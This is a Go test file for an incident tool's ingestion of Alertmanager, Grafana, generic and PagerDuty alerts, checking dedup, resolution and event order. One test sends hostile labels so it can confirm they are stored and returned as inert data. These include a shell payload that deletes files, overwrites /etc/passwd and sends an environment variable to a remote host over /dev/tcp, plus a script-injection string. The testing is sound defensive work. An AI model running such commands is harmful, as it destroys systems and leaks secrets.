package http

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/quench-sh/quench"
)

// findByKey returns the newest incident with the dedup key, or nil.
func findByKey(incs []*quench.Incident, key string) *quench.Incident {
	for _, inc := range incs {
		if inc.DedupKey == key {
			return inc
		}
	}
	return nil
}

func TestIngestAlertmanager(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		sub, err := e.srv.Events.Subscribe(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		defer sub.Close()
		firing := readFixture(t, "alertmanager-firing.json")

		got := e.post("/ingest/alertmanager", quench.RoleIngest, firing)
		if got.status != http.StatusOK {
			t.Fatalf("first post: %s", got)
		}
		var ans ingestResponse
		got.decode(t, &ans)
		if ans.Alerts != 3 || ans.Opened != 3 || len(ans.Incidents) != 3 {
			t.Fatalf("first post answered %+v, want 3 alerts opening 3 incidents", ans)
		}

		incs := e.allIncidents()
		for _, tt := range []struct {
			key, runbook string
			severity     quench.Severity
		}{
			{"a1b2c3d4e5f60001", "db-down", quench.SeverityCritical}, // match expression
			{"a1b2c3d4e5f60002", "api-down", quench.SeverityMedium},  // runbook_url annotation
			{"a1b2c3d4e5f60003", "", quench.SeverityLow},             // nothing answers it
		} {
			inc := findByKey(incs, tt.key)
			if inc == nil {
				t.Fatalf("no incident for %s", tt.key)
			}
			if inc.RunbookID != tt.runbook || inc.Severity != tt.severity || inc.Integration != "test-ingest" ||
				inc.Source != quench.SourceAlertmanager || inc.Status != quench.StatusTriggered {
				t.Errorf("incident %s = runbook %q severity %s integration %q source %q status %s; want runbook %q severity %s from test-ingest",
					tt.key, inc.RunbookID, inc.Severity, inc.Integration, inc.Source, inc.Status, tt.runbook, tt.severity)
			}
		}

		// A repeat is counted on the open incidents, not opened again.
		got = e.post("/ingest/alertmanager", quench.RoleIngest, firing)
		got.decode(t, &ans)
		if got.status != 200 || ans.Opened != 0 {
			t.Fatalf("repeat: %s", got)
		}
		for _, r := range ans.Results {
			if r.Outcome != quench.OutcomeDeduplicated {
				t.Errorf("repeat outcome %s for %s, want deduplicated", r.Outcome, r.DedupKey)
			}
		}
		db := findByKey(e.allIncidents(), "a1b2c3d4e5f60001")
		if db.AlertCount != 2 {
			t.Errorf("alert_count after a repeat = %d, want 2", db.AlertCount)
		}

		// Resolved by the source: the incident resolves and says so.
		got = e.post("/ingest/alertmanager", quench.RoleIngest, readFixture(t, "alertmanager-resolved.json"))
		got.decode(t, &ans)
		if got.status != 200 || ans.Results[0].Outcome != quench.OutcomeResolved {
			t.Fatalf("resolve: %s", got)
		}
		var view IncidentView
		e.get(fmt.Sprintf("/api/v1/incidents/%d", db.ID), quench.RoleViewer).decode(t, &view)
		if view.Status != quench.StatusResolved || view.ResolvedAt == nil {
			t.Fatalf("after resolve: status %s resolved_at %v", view.Status, view.ResolvedAt)
		}
		if n := len(view.Timeline); n < 2 || view.Timeline[n-1].Kind != quench.EventResolved {
			t.Fatalf("timeline does not end with the resolve: %+v", view.Timeline)
		}

		// Firing again after resolution opens a new incident.
		got = e.post("/ingest/alertmanager", quench.RoleIngest, firing)
		got.decode(t, &ans)
		if ans.Opened != 1 || ans.Results[0].Outcome != quench.OutcomeOpened || ans.Results[0].Incident == db.ID {
			t.Fatalf("refire after resolve: %s", got)
		}

		// Every change was published after it committed, in order: three
		// opened, the resolve, the reopen; repeats publish nothing.
		want := []struct {
			kind    quench.IncidentEventKind
			runbook string
		}{
			{quench.IncidentOpened, "db-down"}, {quench.IncidentOpened, "api-down"}, {quench.IncidentOpened, ""},
			{quench.IncidentResolved, "db-down"}, {quench.IncidentOpened, "db-down"},
		}
		for i, w := range want {
			ev := <-sub.Events()
			if ev.Kind != w.kind || ev.RunbookID != w.runbook || ev.Actor != "test-ingest" || ev.IncidentID == 0 || ev.At.IsZero() {
				t.Errorf("event %d = %+v, want %s of runbook %q by test-ingest", i, ev, w.kind, w.runbook)
			}
		}
		select {
		case ev := <-sub.Events():
			t.Errorf("unexpected event %+v", ev)
		default:
		}
	})
}

func TestIngestGrafana(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		got := e.post("/ingest/grafana", quench.RoleIngest, readFixture(t, "grafana-firing.json"))
		if got.status != http.StatusOK {
			t.Fatalf("post: %s", got)
		}
		var ans ingestResponse
		got.decode(t, &ans)
		if ans.Opened != 1 {
			t.Fatalf("answer %+v, want one incident opened", ans)
		}
		var view IncidentView
		e.get(fmt.Sprintf("/api/v1/incidents/%d", ans.Incidents[0]), quench.RoleViewer).decode(t, &view)
		if view.Runbook == nil || *view.Runbook != "db-down" || view.Source != quench.SourceGrafana ||
			view.Labels["instance"] != "db-2:9187" || view.Summary != "Postgres is down on db-2" {
			t.Fatalf("grafana incident: %+v", view)
		}
	})
}

func TestIngestGeneric(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		got := e.post("/ingest/generic", quench.RoleIngest, readFixture(t, "generic.json"))
		var ans ingestResponse
		got.decode(t, &ans)
		if got.status != 200 || ans.Opened != 1 || ans.Results[0].DedupKey != "backup-nightly" {
			t.Fatalf("post: %s", got)
		}
		// A batch of two, one of them resolving the first incident.
		batch := `[{"summary":"Nightly backup did not finish","dedup_key":"backup-nightly","status":"resolved"},
		           {"summary":"Disk 91% full on db-1","severity":"warning","labels":{"host":"db-1"}}]`
		got = e.post("/ingest/generic", quench.RoleIngest, []byte(batch))
		got.decode(t, &ans)
		if got.status != 200 || ans.Alerts != 2 || ans.Results[0].Outcome != quench.OutcomeResolved ||
			ans.Results[1].Outcome != quench.OutcomeOpened || ans.Results[1].DedupKey == "" {
			t.Fatalf("batch: %s", got)
		}
		var view IncidentView
		e.get(fmt.Sprintf("/api/v1/incidents/%d", ans.Results[1].Incident), quench.RoleViewer).decode(t, &view)
		if view.Runbook != nil || view.Severity != quench.SeverityMedium {
			t.Fatalf("unrouted generic incident: runbook %v severity %s", view.Runbook, view.Severity)
		}
	})
}

// TestPagerDuty pins the Events API v2 semantics DESIGN.md promises.
func TestPagerDuty(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		key := e.secrets[quench.RoleIngest]
		enqueue := func(body []byte) (response, pagerDutyAnswer) {
			t.Helper()
			got := e.do(http.MethodPost, "/v2/enqueue", "", "", body)
			var ans pagerDutyAnswer
			got.decode(t, &ans)
			return got, ans
		}
		accepted := func(got response, ans pagerDutyAnswer) {
			t.Helper()
			if got.status != http.StatusAccepted || ans.Status != "success" || ans.Message != "Event processed" || ans.DedupKey == "" {
				t.Fatalf("want 202 success: %s", got)
			}
		}

		// A trigger with a dedup key, routed by its component.
		got, ans := enqueue(pagerDutyEvent(t, key, nil))
		accepted(got, ans)
		if ans.DedupKey != "stripe-webhooks-failing" {
			t.Fatalf("dedup_key %q, want the one sent", ans.DedupKey)
		}
		inc := findByKey(e.allIncidents(), "stripe-webhooks-failing")
		if inc == nil || inc.RunbookID != "payment-webhooks" || inc.Severity != quench.SeverityHigh || inc.Source != quench.SourcePagerDuty {
			t.Fatalf("pagerduty incident: %+v", inc)
		}

		// A trigger without a dedup key gets a generated one, returned.
		got, ans = enqueue(pagerDutyEvent(t, key, map[string]any{"dedup_key": nil}))
		accepted(got, ans)
		generated := ans.DedupKey
		if findByKey(e.allIncidents(), generated) == nil {
			t.Fatalf("no incident under the generated key %q", generated)
		}

		// Acknowledge and resolve of an unknown key: 202, nothing changes.
		before := e.counts()
		for _, action := range []string{"acknowledge", "resolve"} {
			got, ans = enqueue(mustJSON(t, map[string]any{"routing_key": key, "event_action": action, "dedup_key": "never-seen"}))
			accepted(got, ans)
		}
		if after := e.counts(); fmt.Sprint(after) != fmt.Sprint(before) {
			t.Fatalf("unknown-key ack/resolve changed counts: %v → %v", before, after)
		}

		// Acknowledge, then resolve, the first incident.
		got, ans = enqueue(mustJSON(t, map[string]any{"routing_key": key, "event_action": "acknowledge", "dedup_key": "stripe-webhooks-failing"}))
		accepted(got, ans)
		if inc := findByKey(e.allIncidents(), "stripe-webhooks-failing"); inc.Status != quench.StatusAcknowledged {
			t.Fatalf("after acknowledge: %s", inc.Status)
		}
		got, ans = enqueue(mustJSON(t, map[string]any{"routing_key": key, "event_action": "resolve", "dedup_key": "stripe-webhooks-failing"}))
		accepted(got, ans)
		if inc := findByKey(e.allIncidents(), "stripe-webhooks-failing"); inc.Status != quench.StatusResolved {
			t.Fatalf("after resolve: %s", inc.Status)
		}

		// A trigger after resolution opens a new incident under the same key.
		got, ans = enqueue(pagerDutyEvent(t, key, nil))
		accepted(got, ans)
		n := 0
		for _, inc := range e.allIncidents() {
			if inc.DedupKey == "stripe-webhooks-failing" {
				n++
			}
		}
		if n != 2 {
			t.Fatalf("%d incidents under the key after re-trigger, want 2", n)
		}

		// Missing fields: 400 with PagerDuty's body and every error listed.
		got, ans = enqueue(mustJSON(t, map[string]any{"routing_key": key, "event_action": "trigger", "payload": map[string]any{"severity": "loud"}}))
		if got.status != http.StatusBadRequest || ans.Status != "invalid event" || ans.Message != "Event object is invalid" || len(ans.Errors) < 3 {
			t.Fatalf("missing fields: %s", got)
		}
		joined := strings.Join(ans.Errors, "\n")
		for _, field := range []string{"summary", "source", "severity"} {
			if !strings.Contains(joined, field) {
				t.Errorf("errors do not mention %s: %q", field, ans.Errors)
			}
		}

		// A well-formed key nobody issued: PagerDuty's "Invalid routing key".
		got, ans = enqueue(pagerDutyEvent(t, strings.Repeat("a", 32), nil))
		if got.status != http.StatusBadRequest || len(ans.Errors) != 1 || ans.Errors[0] != "Invalid routing key" {
			t.Fatalf("unknown routing key: %s", got)
		}
	})
}

// TestIngestHostileLabels sends labels that would hurt a shell, a terminal
// or a browser, and checks they come back through the API as plain data.
func TestIngestHostileLabels(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		big := strings.Repeat("é", (quench.MaxLabelBytes-2)/2)
		labels := map[string]string{
			"shell":    "$(rm -rf /); `id` | tee /etc/passwd && echo $QUENCH_LABEL_X > /dev/tcp/1.2.3.4/80",
			"terminal": "\x1b[31mred\x1b[0m\r\n\ttab\x07bell",
			"html":     `<script>alert("x")</script>&amp;`,
			"quotes":   `'"\'\\`,
			"big":      big,
		}
		body := mustJSON(t, map[string]any{"summary": "hostile <b>labels</b>", "dedup_key": "hostile", "labels": labels})
		// Raw bytes that are not UTF-8, and an escaped NUL, inside strings.
		body = []byte(strings.Replace(string(body), `"dedup_key":"hostile"`, "\"dedup_key\":\"hostile\",\"details\":{\"x\":1}", 1))
		body = []byte(strings.Replace(string(body), `"labels":{`, "\"labels\":{\"bytes\":\"a\xff\xfeb\",\"nul\":\"a\\u0000b\",", 1))
		got := e.post("/ingest/generic", quench.RoleIngest, body)
		var ans ingestResponse
		got.decode(t, &ans)
		if got.status != 200 {
			t.Fatalf("post: %s", got)
		}
		raw := e.get(fmt.Sprintf("/api/v1/incidents/%d", ans.Incidents[0]), quench.RoleViewer)
		if strings.Contains(string(raw.body), "<script>") {
			t.Errorf("HTML reached the JSON unescaped")
		}
		var view IncidentView
		raw.decode(t, &view)
		want := map[string]string{"bytes": "a\uFFFD\uFFFDb", "nul": "a\uFFFDb"}
		for k, v := range labels {
			want[k] = v
		}
		for k, v := range want {
			if view.Labels[k] != v {
				t.Errorf("label %s = %q, want %q", k, quench.CutText(view.Labels[k], 80), quench.CutText(v, 80))
			}
		}
		if view.Summary != "hostile <b>labels</b>" {
			t.Errorf("summary %q", view.Summary)
		}
		// And through the list, as the CLI reads it.
		list, err := e.apiClient(quench.RoleViewer).FindIncidents(context.Background(), quench.IncidentFilter{})
		if err != nil || len(list.Incidents) != 1 || list.Incidents[0].Labels["shell"] != labels["shell"] {
			t.Fatalf("list: %v %+v", err, list)
		}
		var probe map[string]any
		if err := json.Unmarshal(raw.body, &probe); err != nil {
			t.Fatal(err)
		}
	})
}
